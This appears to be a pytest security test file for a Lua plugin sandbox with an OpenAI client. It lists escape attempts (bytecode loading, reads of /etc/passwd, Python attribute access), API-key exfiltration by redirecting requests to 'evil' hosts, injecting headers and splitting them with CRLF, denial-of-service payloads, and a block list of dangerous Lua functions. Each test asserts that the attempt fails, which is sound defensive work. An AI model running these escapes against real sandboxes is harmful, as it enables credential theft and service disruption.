"""Escapes and abuses that plugins are known to try, against both isolations where they apply."""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from dataclasses import replace
from typing import Any

import pytest
from pytest_httpserver import HTTPServer
from werkzeug import Request, Response

from luaopenai import LimitExceeded, Limits, LuaError, OpenAI, Plugin, PluginHost, Runtime
from support.workers import worker_of

KEY = "sk-test-0123456789"
LIMITS = Limits(seconds=0.2, memory_mb=16, output_kb=1, requests=3)

Load = Callable[..., Plugin]


@pytest.fixture
def load(hosts: Callable[..., PluginHost]) -> Load:
    """Loads a plugin whose function ``run`` has this body; ``rest`` tells that it lives."""

    def load(body: str, *, before: str = "", **options: Any) -> Plugin:
        kept: dict[str, Any] = {"limits": LIMITS, "output": lambda *_: None}
        rest = "rest = function() return 'alive' end"
        code = f"{before} return {{ run = function(...) {body} end, {rest} }}"
        return hosts(**kept | options).load_string(code)

    return load


# --- What is not there ---

ABSENT = """
    arg dofile ffi gcinfo getfenv jit loadfile module newproxy ngx package python setfenv
    coroutine.isyieldable debug.debug debug.gethook debug.getinfo debug.getlocal debug.getmetatable
    debug.getregistry debug.getupvalue debug.getfenv debug.setfenv debug.sethook debug.setlocal
    debug.setmetatable debug.setupvalue debug.upvalueid debug.upvaluejoin io.close io.input io.lines
    io.open io.output io.popen io.read io.stderr io.stdin io.stdout io.tmpfile os.execute os.exit
    os.getenv os.remove os.rename os.setlocale os.tmpname string.dump table.foreach table.move
    table.new table.clear math.mod utf8 buffer
""".split()  # noqa: SIM905


def test_the_dangerous_parts_of_lua_are_not_there(load: Load) -> None:
    plugin = load("""
      local found = {}
      for name in (...):gmatch("%S+") do
        local value = _G
        for part in name:gmatch("[^.]+") do value = value and value[part] end
        if value ~= nil then found[#found + 1] = name end
      end
      return table.concat(found, " ")
    """)
    assert plugin.call("run", " ".join(ABSENT)) == ""


REFUSED_MODULES = """
    _G bit buffer coroutine debug ffi io jit jit.opt jit.util jit.profile lfs lpeg math os package
    python socket socket.http socket.core ssl.https string string.buffer table table.new
    luaopenai.boot
    luaopenai.sandbox luaopenai.wire openai.http openai.request openai.tasks openai.compat.gemini
    cjson.instance ../secret /etc/passwd
""".split()  # noqa: SIM905


@pytest.mark.parametrize("modules", [False, True])
def test_require_gives_nothing_of_lua_itself(load: Load, modules: bool) -> None:
    plugin = load(
        """
        local found = {}
        for name in (...):gmatch("%S+") do
          if pcall(require, name) then found[#found + 1] = name end
        end
        return table.concat(found, " ")
        """,
        modules=modules,
    )
    assert plugin.call("run", " ".join(REFUSED_MODULES)) == ""


# --- Escapes: each body returns what it got hold of ---

NOTHING: dict[str, str] = {
    "the metatable of strings": "return getmetatable('')",
    "the metatable of strings, through a module": """
        local seen
        local types = require("tableshape").types
        pcall(function()
          types.metatable_is(types.custom(function(mt) seen = type(mt) == "table" end))("")
        end)
        return seen or nil""",
    "setmetatable on a string": "local ok = pcall(setmetatable, '', {}) return ok or nil",
    "rawset on the methods of strings": "local ok = pcall(rawset, '', 'x', 1) return ok or nil",
    "a new method for strings": "string.shout = print return ('').shout",
    "an old method of strings replaced": """
        string.upper = nil
        return ('a'):upper() ~= 'A' or nil""",
    "bytecode through load": "return (load('\\27LJ\\2\\0'))",
    "bytecode through load, mode b": "return (load('\\27LJ\\2\\0', 'x', 'b'))",
    "bytecode through load, mode bt": "return (load('\\27LJ\\2\\0', 'x', 'bt', {}))",
    "bytecode through load, in pieces": """
        local pieces = { "\\27L", "J\\2\\0" }
        return (load(function() return table.remove(pieces, 1) end))""",
    "bytecode through loadstring": "return (loadstring('\\27LJ\\2\\0'))",
    "text in mode b": "return (load('return 1', 'x', 'b'))",
    "real globals through load": "return load('return package or debug.sethook or io.open')()",
    "real globals through loadstring": "return loadstring('return package or jit or ffi')()",
    "real globals through an empty environment": "return load('return io', 'x', 't', {})()",
    "real globals through a nil environment": "return load('return package', 'x', 't', nil)()",
    "real globals through a coroutine": """
        return coroutine.wrap(function() return load('return package or jit')() end)()""",
    "a provider that is ffi": """
        local ok, http = pcall(function()
          return require("openai").new("k", { http_provider = "ffi" }):get_http()
        end)
        return ok and http or nil""",
    "a provider that is package": """
        local client = require("openai").new("k")
        client.config.http_provider = "package"
        local ok, http = pcall(client.get_http, client)
        return ok and http or nil""",
    "a provider that is a bundled module of another kind": """
        local client = require("openai").new("k", { http_provider = "openai.compat.gemini" })
        local ok, module = pcall(client.get_http, client)
        return ok and type(module) or nil""",
    "a provider by way of ngx": """
        ngx = {} _G.ngx = {} rawset(_G, "ngx", {})
        return require("openai").new("k"):get_http() == nil or nil""",
    "Python calling a plugin's function, by url.decode": """
        local got
        local thing = { decode = function(...) got = { ... } return "x" end, upper = 1 }
        local http = require("openai").new("k"):get_http()
        pcall(http.request, { url = thing, method = thing, headers = thing })
        return got and type(got[1])""",
    "Python calling a plugin's function, by a callable table": """
        local got
        local thing = setmetatable({}, {
          __index = function(_, key)
            if key == "decode" then got = key end
            return function() end
          end,
        })
        local http = require("openai").new("k"):get_http()
        pcall(http.request, { url = thing, method = thing })
        return got""",
    "Python calling a plugin's function, by an organization": """
        local got
        local thing = { decode = function(...) got = { ... } return "x" end }
        pcall(require("openai").new, "k", { organization = thing, project = thing })
        return got and type(got[1])""",
    "a file by create_file": """
        return (pcall(function()
          return require("openai").new("k"):create_file({ file = "/etc/passwd", purpose = "x" })
        end)) or nil""",
    "a file by transcription": """
        return (pcall(function()
          return require("openai").new("k"):transcription({ file = "/etc/passwd", model = "x" })
        end)) or nil""",
    "a file by ca_bundle": """
        return (pcall(function()
          return require("openai").new("k", { ca_bundle = "/etc/passwd" }):models()
        end)) or nil""",
    "a file by ltn12": """
        local source = require("ltn12").source
        return (pcall(function() return source.file("/etc/passwd")() end)) or nil""",
    "what tasks yield to their scheduler": """
        local openai = require("openai")
        local thread, got
        openai.spawn(function()
          thread = coroutine.create(function() while true do openai.sleep(0.001) end end)
          coroutine.resume(thread)
        end):cancel()
        local _, first = coroutine.resume(thread)
        if type(first) == "table" then got = first end
        openai.gather({ function()
          local _, other = coroutine.resume(thread)
          if type(other) == "table" then got = other end
        end })
        return got""",
    "a coroutine that a task runs in": """
        local openai = require("openai")
        local thread, got
        local task = openai.spawn(function()
          thread = coroutine.running()
          while true do openai.sleep(0.001) end
        end)
        local _, first = coroutine.resume(thread)
        task:cancel()
        if type(first) == "table" then got = first end
        return got""",
    "the scheduler by a task": """
        local task = require("openai").spawn(function() error("x") end)
        for _, value in next, task do
          if type(value) == "table" then return "a table" end
        end
        pcall(task.wait, task)
        return getmetatable(task)""",
    "real globals through a task": """
        local openai = require("openai")
        local found
        openai.gather({ function() found = load('return package or jit or debug.getinfo')() end })
        return found""",
    "os.exit through a module": "return os.exit or require('openai').exit",
    "an environment variable by the client": """
        local client = require("openai").new()
        return client.api_key or next(client.account_headers)""",
    "a Python object as the error of a host function": """
        local _, e = pcall(host.fail) return type(e) ~= "string" or nil""",
    "attributes of a host function": """
        local f = host.fail
        return (pcall(function() return f.__globals__ or f.__class__ end)) or nil""",
    "attributes of an error": """
        local _, e = pcall(host.fail)
        return e.__class__ or e.__traceback__ or e.__cause__ or e.args""",
    "attributes of null": """
        local null = require("cjson").null
        return (pcall(function() return null.__class__ end)) or nil""",
    "a metatable of null": "return getmetatable(require('cjson').null)",
    "another function of the host": "return host.hidden or host.__class__ or host[1]",
    "the sandbox's own functions by a traceback": """
        return type(debug.traceback(coroutine.create(print))) ~= "string" or nil""",
    "an argument's metatable": "return getmetatable((...))",
    "__gc of a table": """
        local ran
        do setmetatable({}, { __gc = function() ran = true end }) end
        for _ = 1, 1000 do local _ = {} end
        collectgarbage() collectgarbage("collect")
        return ran""",
    "a position far outside by insert": "return (pcall(table.insert, {}, -2^31, 1)) or nil",
    "a position far outside by insert, as text": """
        return (pcall(table.insert, {}, '-1e9', 1)) or nil""",
    "a position past the end by insert": "return (pcall(table.insert, {}, 2^30, 1)) or nil",
    "a wide format": "return (pcall(string.format, '%999999999d', 1)) or nil",
    "too many results": "return (pcall(unpack, {}, 1, 1e8)) or nil",
    "a yield out of the plugin": "return (pcall(coroutine.yield, 1)) or nil",
    "a pattern nested deeply": "return (pcall(string.find, ('('):rep(500), ('('):rep(500))) or nil",
    "source nested deeply": "return (load(('('):rep(1e5)))",
}


@pytest.mark.parametrize("name", NOTHING)
def test_an_escape_gets_hold_of_nothing(
    load: Load, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    for variable in ("API_KEY", "ORG_ID", "PROJECT_ID"):
        monkeypatch.setenv(f"OPENAI_{variable}", "from-the-environment")

    def fail() -> None:
        raise KeyError("x")

    plugin = load(NOTHING[name], functions={"fail": fail})
    try:
        assert plugin.call("run", {"a": 1}) is None
    except LuaError as error:
        # Nothing was got either where Lua itself has refused.
        assert "attempt to index" in error.message  # noqa: PT017
    assert plugin.call("rest") == "alive"


@pytest.mark.parametrize(
    "how",
    [
        "load(code)",
        "load(code, 'x', 'b')",
        "load(code, 'x', 'bt', {})",
        "load(function() local piece = code code = nil return piece end)",
        "loadstring(code)",
    ],
)
def test_bytecode_that_is_sound_is_refused_too(load: Load, how: str) -> None:
    code = Runtime().run_string("return string.dump(function() return 'it ran' end)")
    loaded, message = load(f"local code = ... local f, e = {how} return f and f(), e").call(
        "run", code if isinstance(code, bytes) else code.encode()
    )
    assert loaded is None
    assert "bytecode" in message or "wrong mode" in message


# --- Abuses: each goes on until a limit stops it ---

ENDLESS: dict[str, tuple[str, str]] = {
    "a loop": ("seconds", "while true do end"),
    "a loop under pcall": ("seconds", "while true do pcall(function() while true do end end) end"),
    "a loop under pcalls of pcalls": (
        "seconds",
        "local function f() pcall(f) while true do end end while true do pcall(f) end",
    ),
    "a loop in a coroutine": (
        "seconds",
        "while true do coroutine.resume(coroutine.create(function() while true do end end)) end",
    ),
    "a loop in coroutine.wrap": (
        "seconds",
        "while true do pcall(coroutine.wrap(function() while true do end end)) end",
    ),
    "coroutines that resume one another": (
        "seconds",
        """local function f() return pcall(coroutine.wrap(f)) end
        while true do f() end""",
    ),
    "gsub in gsub in gsub": (
        "seconds",
        "local function f() return (('x'):gsub('x', f)) end while true do pcall(f) end",
    ),
    "sorts in coroutines in sorts": (
        "seconds",
        """local function f() return (pcall(coroutine.wrap(function()
          table.sort({ 2, 1, 3 }, function(a, b) f() return a < b end)
        end))) end
        while true do f() end""",
    ),
    "formats in formats": (
        "seconds",
        """local thing = setmetatable({}, {})
        getmetatable(thing).__tostring = function() return ("%s"):format(thing) end
        while true do pcall(tostring, thing) end""",
    ),
    "gsub in coroutines in gsub": (
        "seconds",
        """local function f() return (('x'):gsub('x', coroutine.wrap(f))) end
        while true do pcall(f) end""",
    ),
    "a loop in a handler": (
        "seconds",
        "while true do xpcall(error, function() while true do end end) end",
    ),
    "a loop in a handler of the limit itself": (
        "seconds",
        "xpcall(function() while true do end end, function() while true do end end)",
    ),
    "a loop in a handler of a full stack": (
        "seconds",
        """local function f() return 1 + f() end
        while true do xpcall(f, function() while true do end end) end""",
    ),
    "a loop where the stack is nearly full": (
        "seconds",
        """local function probe(n) return n == 0 and 0 or 1 + probe(n - 1) end
        local function loop(n) if n == 0 then while true do end end return 1 + loop(n - 1) end
        local low, high = 1, 1e6
        while low < high do
          local middle = math.ceil((low + high) / 2)
          if pcall(probe, middle) then low = middle else high = middle - 1 end
        end
        for n = low - 8, low do
          xpcall(function() loop(n) end, function() while true do end end)
        end""",
    ),
    "deep recursion again and again": (
        "seconds",
        "local function f() return 1 + f() end while true do pcall(f) end",
    ),
    "a loop in __index": (
        "seconds",
        "return setmetatable({}, { __index = function() while true do end end }).x",
    ),
    "a loop in __concat": (
        "seconds",
        "return setmetatable({}, { __concat = function() while true do end end }) .. ''",
    ),
    "a loop in __tostring of what is printed": (
        "seconds",
        "print(setmetatable({}, { __tostring = function() while true do end end }))",
    ),
    "a loop in __tostring of an error": (
        "seconds",
        "error(setmetatable({}, { __tostring = function() while true do end end }))",
    ),
    "a loop in __tostring of an error's field": (
        "seconds",
        "error({ x = setmetatable({}, { __tostring = function() while true do end end }) })",
    ),
    "a loop in __index of what is sent": (
        "seconds",
        """local trap = setmetatable({}, { __index = function() while true do end end })
        return require("openai").new("k"):get_http().request(trap)""",
    ),
    "a loop in gsub's function": (
        "seconds",
        "return (('x'):gsub('x', function() while true do end end))",
    ),
    "a loop in sort's function": (
        "seconds",
        "table.sort({ 3, 2, 1 }, function() while true do end end)",
    ),
    "a loop in load's function": ("seconds", "load(function() while true do end end)"),
    "a load that never ends": ("seconds", "load(function() return ('x = 1 '):rep(1000) end)"),
    "a loop in a metatable of arrays": (
        "seconds",
        """require("cjson").array_mt.__newindex = function() while true do end end
        return nil, 1""",
    ),
    "a loop in the module that sends": (
        "seconds",
        """require("ltn12").sink.table = function() while true do end end
        return require("openai").new("k"):chat({ { role = "user", content = "x" } })""",
    ),
    "host functions for ever": ("seconds", "while true do pcall(host.count) end"),
    "garbage with the collector stopped": (
        "seconds",
        "collectgarbage('stop') collectgarbage('setpause', 1e9) while true do local _ = {} end",
    ),
    "a table that grows": ("memory_mb", "local t = {} for i = 1, 1e9 do t[i] = { i } end"),
    "a table that grows under pcall": (
        "memory_mb",
        "while true do pcall(function() local t = {} while true do t[#t + 1] = {} end end) end",
    ),
    "strings that grow": (
        "memory_mb",
        "local t = {} for i = 1, 1e9 do t[i] = ('x'):rep(100) .. i end",
    ),
    "closures that grow": (
        "memory_mb",
        "local t = {} for i = 1, 1e9 do t[i] = function() return i end end",
    ),
    "coroutines that grow": (
        "memory_mb",
        "local t = {} for i = 1, 1e9 do t[i] = coroutine.create(print) end",
    ),
    "string.rep": ("memory_mb", "return #('x'):rep(1e9)"),
    "string.rep with a separator": ("memory_mb", "return #('x'):rep(1000, ('y'):rep(1e6))"),
    "string.rep again and again": (
        "memory_mb",
        "local t = {} for i = 1, 1e4 do t[i] = (tostring(i)):rep(1e6) end",
    ),
    "string.rep of infinity": ("memory_mb", "return ('x'):rep(math.huge)"),
    "string.rep under pcall": ("memory_mb", "while true do pcall(string.rep, 'x', 1e9) end"),
    "memory kept by a metatable": (
        "memory_mb",
        """local t = setmetatable({}, { __newindex = function(t, k, v) rawset(t, k, { v }) end })
        for i = 1, 1e9 do t[i] = i end""",
    ),
    "a result that fills the host": (
        "memory_mb",
        "local e, t = {}, {} for i = 1, 3e5 do t[i] = e end return t",
    ),
    "an argument that fills the host": (
        "memory_mb",
        "local e, t = {}, {} for i = 1, 3e5 do t[i] = e end while true do pcall(host.count, t) end",
    ),
    "output": ("output_kb", "while true do print(('x'):rep(100)) end"),
    "output under pcall": ("output_kb", "while true do pcall(io.write, ('x'):rep(100)) end"),
    "output in a piece": ("output_kb", "io.write(('x'):rep(1e6))"),
    "empty lines": ("output_kb", "while true do print() end"),
}


@pytest.mark.parametrize("name", ENDLESS)
def test_an_abuse_is_stopped_and_the_plugin_lives(load: Load, name: str) -> None:
    kind, body = ENDLESS[name]
    # A slow machine must not run out of seconds first.
    limits = LIMITS if kind == "seconds" else replace(LIMITS, seconds=5)
    plugin = load(body, functions={"count": lambda *_: None}, limits=limits)
    with pytest.raises(LimitExceeded) as caught:
        plugin.call("run")
    assert caught.value.kind in (kind, "memory_mb" if "corout" in name or "stack" in name else kind)
    assert plugin.call("rest") == "alive"


# One operation that no hook ends: in a thread, only the author's good will stands against these.
PROCESS_ONLY: dict[str, str] = {
    "a pattern that explodes": "return (('a'):rep(40)):find(('a?'):rep(40) .. ('a'):rep(40))",
    "a pattern that explodes in gsub": "return (('a'):rep(1e5)):gsub('a*a*a*a*b', '')",
    "a pattern that explodes in gmatch": "for _ in (('a'):rep(1e5)):gmatch('.-.-.-.-b') do end",
}


@pytest.mark.parametrize("isolation", ["process"], indirect=True)
@pytest.mark.parametrize("name", PROCESS_ONLY)
def test_an_abuse_that_no_hook_ends_is_stopped_in_a_process(load: Load, name: str) -> None:
    plugin = load(PROCESS_ONLY[name])
    with pytest.raises(LimitExceeded) as caught:
        plugin.call("run")
    assert caught.value.kind in ("seconds", "memory_mb")
    assert plugin.call("rest") == "alive"


# Large values made at once, which no look at the clock or at the memory comes between.
LARGE: dict[str, str] = {
    "doubling": "local s = 'x' while true do s = s .. s end",
    "doubling under pcall": """
        while true do pcall(function() local s = 'x' while true do s = s .. s end end) end""",
    "gsub that amplifies": "return (('x'):rep(1e6):gsub('.', ('y'):rep(1e6)))",
    "table.concat that amplifies": """
        local t, s = {}, ('x'):rep(1e6)
        for i = 1, 5000 do t[i] = s end
        return #table.concat(t)""",
    "format that amplifies": "local s = 'x' while true do s = ('%s%s%s%s'):format(s, s, s, s) end",
}


@pytest.mark.parametrize("name", LARGE)
def test_a_value_that_grows_at_once_is_stopped(load: Load, name: str) -> None:
    plugin = load(LARGE[name])
    with pytest.raises(LimitExceeded) as caught:
        plugin.call("run")
    assert caught.value.kind in ("seconds", "memory_mb")
    assert plugin.call("rest") == "alive"


# --- From call to call ---


def test_a_coroutine_that_was_stopped_stays_stopped(load: Load) -> None:
    plugin = load(
        """
        if ... then
          co = coroutine.create(function() while true do end end)
          coroutine.resume(co)
        end
        return coroutine.status(co), (coroutine.resume(co))
        """
    )
    with pytest.raises(LimitExceeded, match="seconds"):
        plugin.call("run", True)
    assert plugin.call("run", False) == ("dead", False)


def test_a_coroutine_kept_across_calls_runs_under_the_new_calls_limit(load: Load) -> None:
    plugin = load("""
      if ... then
        co = coroutine.create(function() coroutine.yield() while true do end end)
      end
      return (coroutine.resume(co))
    """)
    assert plugin.call("run", True) is True
    with pytest.raises(LimitExceeded, match="seconds"):
        plugin.call("run", False)
    assert plugin.call("rest") == "alive"


def test_an_abuse_at_load_is_stopped(load: Load) -> None:
    with pytest.raises(LimitExceeded, match="seconds"):
        load("", before="while true do end")


def test_the_output_limit_holds_for_each_call_anew(load: Load) -> None:
    plugin = load("io.write(('x'):rep(...))")
    for _ in range(3):
        plugin.call("run", 1024)
        with pytest.raises(LimitExceeded, match="output_kb"):
            plugin.call("run", 1025)


def test_what_a_plugin_does_to_its_globals_and_modules_hurts_only_itself(load: Load) -> None:
    plugin = load(
        "return 'still here'",
        before="""
          local require, pairs = require, pairs
          local globals = _G
          for name in pairs(globals) do globals[name] = nil end
          for _, name in pairs({ "openai", "cjson", "ltn12", "mime", "socket.url" }) do
            local module = require(name)
            for key in pairs(module) do module[key] = nil end
          end
        """,
    )
    assert plugin.call("run") == "still here"
    with pytest.raises(LuaError, match="attempt to call global 'error'"):
        load("error('x')", before="error = nil").call("run")


def test_an_error_from_the_host_says_nothing_of_its_python(load: Load) -> None:
    plugin = load("local _, e = pcall(host.fail) return e", functions={"fail": lambda: 1 / 0})
    assert plugin.call("run") == "host.fail: ZeroDivisionError: division by zero"


# --- The key ---


@pytest.fixture
def mirror(httpserver: HTTPServer) -> HTTPServer:
    """A server that answers with secrets in its headers."""

    def answer(request: Request) -> Response:
        headers = {
            "Openai-Organization": "org-secret",
            "Set-Cookie": f"key={KEY}",
            "X-Ratelimit-Remaining-Requests": "7",
        }
        text = json.dumps({"object": "list", "data": [], "path": request.path})
        return Response(text, content_type="application/json", headers=headers)

    httpserver.expect_request("/v1/models").respond_with_handler(answer)
    httpserver.expect_request("/v1/embeddings").respond_with_handler(answer)
    return httpserver


FISHING: dict[str, str] = {
    "the client's fields": "return dump(client)",
    "the class": "return dump(require('openai').OpenAI)",
    "tostring": "return tostring(client) .. tostring(client.config) .. tostring(client.headers)",
    "the answer's headers": "return dump({ client:models() })",
    "another server by api_base": """
        client.api_base = evil return dump({ pcall(client.models, client) })""",
    "another server by base_url": """
        local other = openai.new("k", { base_url = evil })
        return dump({ pcall(other.models, other) })""",
    "another server by with_options": """
        local other = client:with_options({ base_url = evil })
        return dump({ pcall(other.models, other) })""",
    "another server by a proxy": """
        return dump({ openai.new("k", { proxy = evil, verify = false }):models() })""",
    "another server by _request": """
        return dump({ pcall(client._request, client, "GET", "@127.0.0.1:1/models") })""",
    "another server by a path with its own host": """
        client.api_base = "https://host.invalid" return dump({ pcall(client._request, client, "GET",
          ".evil.example/v1/models") })""",
    "another server by the HTTP module": """
        return dump({ client:get_http().request({ url = evil .. "/models", method = "GET" }) })""",
    "another server by a Host header": """
        client.headers = { Host = "evil.example", ["X-Forwarded-Host"] = "evil.example" }
        return dump({ client:models() })""",
    "a header that asks for another key": """
        client.headers = { Authorization = "Bearer mine" } return dump({ client:models() })""",
    "a header with a line break": """
        client.headers = { X = "a\\r\\nHost: evil" } return dump({ client:models() })""",
    "the overridden _request": """
        local seen
        client._request = function(self, ...) seen = { ... } return 200, {}, {} end
        client:models() return dump(seen)""",
    "the overridden get_http": """
        local seen
        local function request(given) seen = given return 1, 200, {} end
        client.get_http = function() return { request = request } end
        client:models() return dump(seen)""",
    "the overridden source": """
        local seen = {}
        require("ltn12").pump.all = function(...) seen = { ... } return 1 end
        client:models() return dump(seen)""",
    "an error's traceback": """
        client.api_base = nil
        local _, text = xpcall(client.models, debug.traceback, client)
        return text""",
    "the overridden escape": """
        local seen = {}
        require("socket.url").parse = function(...) seen = { ... } return {} end
        client:models() return dump(seen)""",
}

PRELUDE = """
  local openai = require("openai")
  local client = openai.new()
  local evil = "http://127.0.0.1:9/v1"
  local function dump(value, seen)
    seen = seen or {}
    if type(value) ~= "table" or seen[value] then return tostring(value) end
    seen[value] = true
    local parts = {}
    for key, item in pairs(value) do
      parts[#parts + 1] = dump(key, seen) .. "=" .. dump(item, seen)
    end
    local meta = getmetatable(value)
    if meta then parts[#parts + 1] = dump(meta, seen) end
    return table.concat(parts, ";")
  end
"""


@pytest.mark.parametrize("name", FISHING)
def test_the_key_and_its_server_stay_with_the_host(
    load: Load, client: OpenAI, mirror: HTTPServer, name: str
) -> None:
    said: list[str] = []
    plugin = load(
        FISHING[name],
        before=PRELUDE,
        client=client,
        output=lambda _, text: said.append(text),
    )
    try:
        got = str(plugin.call("run"))
    except LuaError as error:
        got = f"{error.message} {error.traceback}"
    for secret in (KEY, "org-secret", mirror.url_for("").rstrip("/")):
        assert secret not in got + "".join(said)
    for request, _ in mirror.log:
        assert request.headers["Authorization"] == f"Bearer {KEY}"
        assert request.headers["Host"] == f"{mirror.host}:{mirror.port}"
        assert "X-Forwarded-Host" not in request.headers


@pytest.mark.parametrize("setting", ["api_base", "base_url", "with_options"])
def test_a_request_for_another_server_is_refused_rather_than_sent_to_the_hosts(
    load: Load, client: OpenAI, mirror: HTTPServer, setting: str
) -> None:
    body = FISHING[f"another server by {setting}"]
    shown = load(body, before=PRELUDE, client=client).call("run")
    assert "a plugin cannot choose its server" in shown
    assert not mirror.log


def test_a_key_that_is_refused_is_not_repeated_to_the_plugin(
    load: Load, client: OpenAI, httpserver: HTTPServer
) -> None:
    refusal = {"error": {"message": f"Incorrect API key provided: {KEY}"}}
    httpserver.expect_request("/v1/models").respond_with_json(refusal, 401)
    with pytest.raises(LuaError) as caught:
        load("return client:models()", before=PRELUDE, client=client).call("run")
    assert "refuses the host's key" in caught.value.message
    assert KEY not in caught.value.message + caught.value.traceback


def test_a_server_that_is_away_is_not_named_to_the_plugin(
    load: Load, connect: Callable[..., OpenAI], refusing_url: str
) -> None:
    plugin = load("return client:models()", before=PRELUDE, client=connect(refusing_url))
    with pytest.raises(LuaError) as caught:
        plugin.call("run")
    assert "the host cannot reach its server" in caught.value.message
    assert "127.0.0.1" not in caught.value.message + caught.value.traceback


def test_the_worker_has_neither_the_environment_nor_free_descriptors(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    with PluginHost() as host:
        plugin = host.load_string("return { run = function() end }")
        place = f"/proc/{worker_of(plugin).pid}"
        if os.geteuid() == 0:  # Another user may not even look.
            with open(f"{place}/environ", "rb") as file:
                assert KEY.encode() not in file.read()
        with open(f"{place}/limits", encoding="ascii") as file:
            limits = {line[:26].strip(): line[26:].split()[:2] for line in file}
    assert limits["Max open files"] == ["0", "0"]
    assert limits["Max processes"] == limits["Max file size"] == ["0", "0"]
    assert int(limits["Max address space"][0]) < 2**31


# --- Everything that a plugin can reach ---

WALK = """
  local seen, found, count = {}, {}, 0
  local known = { [require("cjson").null] = true, [require("cjson").empty_array] = true }
  local function visit(value, path)
    local kind = type(value)
    if kind == "userdata" or kind == "thread" or kind == "cdata" then
      if not known[value] then found[#found + 1] = path .. ": " .. kind end
    elseif (kind == "table" or kind == "function") and not seen[value] then
      seen[value], count = path, count + 1
      if kind == "function" then
        functions[#functions + 1] = path
      else
        local meta = getmetatable(value)
        if meta then visit(meta, path .. "<meta>") end
        for key, item in next, value do
          visit(key, path .. "<key>")
          visit(item, path .. "." .. tostring(key))
        end
      end
    end
  end
  functions = {}
  local modules = {}
  for name in (...):gmatch("%S+") do modules[name] = require(name) end
  local function try(f, ...) return { pcall(f, ...) } end
  local client = modules.openai.new("k")
  visit(_G, "_G")
  visit(modules, "modules")
  visit(getmetatable(modules["openai.chat_completions"]), "checks")
  visit(try(function() return modules["openai.chat_completions"].test_message end), "check")
  visit(client, "client")
  visit(client:get_http(), "http")
  visit(client:new_chat_session(), "session")
  visit(client:new_responses_chat_session(), "responses")
  visit(try(client.models, client), "answer")
  visit(modules.cjson.new(), "cjson")
  visit(try(host.fail), "failure")
  visit({ xpcall(error, function(...) return { ... } end) }, "handler")
  visit({ ... }, "arguments")
  return found, functions, count
"""

MODULES = """
    cjson cjson.safe ltn12 mime openai openai.chat_completions openai.responses openai.sse
    socket.url tableshape tableshape.ext.json_schema tableshape.ext.with_args tableshape.moonscript
"""

LIBRARY = set(
    """
    assert collectgarbage error getmetatable ipairs load loadstring next pairs pcall print rawequal
    rawget rawset require select setmetatable tonumber tostring type unpack xpcall
    bit.arshift bit.band bit.bnot bit.bor bit.bswap bit.bxor bit.lshift bit.rol bit.ror bit.rshift
    bit.tobit bit.tohex coroutine.create coroutine.resume coroutine.running coroutine.status
    coroutine.wrap coroutine.yield debug.traceback host.fail io.write
    math.abs math.acos math.asin math.atan math.atan2 math.ceil math.cos math.cosh math.deg math.exp
    math.floor math.fmod math.frexp math.ldexp math.log math.log10 math.max math.min math.modf
    math.pow math.rad math.random math.randomseed math.sin math.sinh math.sqrt math.tan math.tanh
    os.clock os.date os.difftime os.time
    string.byte string.char string.find string.format string.gmatch string.gsub string.len
    string.lower string.match string.rep string.reverse string.sub string.upper
    table.concat table.insert table.maxn table.remove table.sort
    """.split()  # noqa: SIM905
)


def test_everything_that_a_plugin_can_reach_is_known(
    load: Load, client: OpenAI, mirror: HTTPServer
) -> None:
    def fail() -> None:
        raise KeyError("x")

    plugin = load(WALK, client=client, functions={"fail": fail}, limits=Limits(seconds=5))
    userdata, functions, count = plugin.call("run", MODULES)
    assert userdata == {}
    assert count > 300
    own = {path.removeprefix("_G.") for path in functions if path.startswith("_G.")}
    assert own == LIBRARY
    for path in set(functions) - {f"_G.{name}" for name in own}:
        root = path.split(".")[0].split("<")[0]
        assert root in {"modules", "checks", "check", "client", "http", "session", "cjson"}, path
